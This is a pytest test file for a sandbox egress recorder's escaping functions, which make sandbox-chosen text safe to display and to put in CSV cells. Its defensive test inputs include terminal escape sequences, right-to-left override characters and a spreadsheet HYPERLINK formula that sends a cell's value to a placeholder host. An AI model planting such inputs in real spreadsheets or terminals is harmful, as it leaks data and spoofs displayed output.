"""egress/record/printable.py: text a sandbox chose, made safe to show (red team 14)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from egress.record.printable import escape, spreadsheet_cell


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("allowed.lab", "allowed.lab"),
        ("", ""),
        ("a b\\c", "a b\\c"),  # printable, a backslash included: as it is
        ("x\x1b[1A\x1b[2K", "x\\027[1A\\027[2K"),  # cursor up, erase line
        ("x\x1b]0;t\x07", "x\\027]0;t\\007"),  # the terminal's title
        ("x\ny\rz\t", "x\\010y\\013z\\009"),
        ("x\x7f\x9b", "x\\127\\194\\155"),  # DEL; C1 CSI, as its two UTF-8 bytes
        ("x\u202ey", "x\\226\\128\\174y"),  # right-to-left override
        ("x\u2028y", "x\\226\\128\\168y"),  # line separator
        ("x\ud800", "x\\237\\160\\128"),  # a lone surrogate (bytes that were not UTF-8)
        ("pool.lab\u00e9", "pool.lab\u00e9"),  # printable non-ASCII stays
    ],
)
def test_what_is_not_printable_is_written_as_dns_escapes(text: str, shown: str) -> None:
    assert escape(text) == shown


@given(st.text())
def test_the_escape_is_printable_and_idempotent(text: str) -> None:
    shown = escape(text)
    assert shown.isprintable()
    assert escape(shown) == shown
    if text.isprintable():
        assert shown == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/"&A1,"ok")', '\'=HYPERLINK("http://x/"&A1,"ok")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=\x1b[2K", "'=\\027[2K"),
        ("allowed.lab", "allowed.lab"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_a_csv_cell_a_spreadsheet_would_evaluate_is_quoted(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell
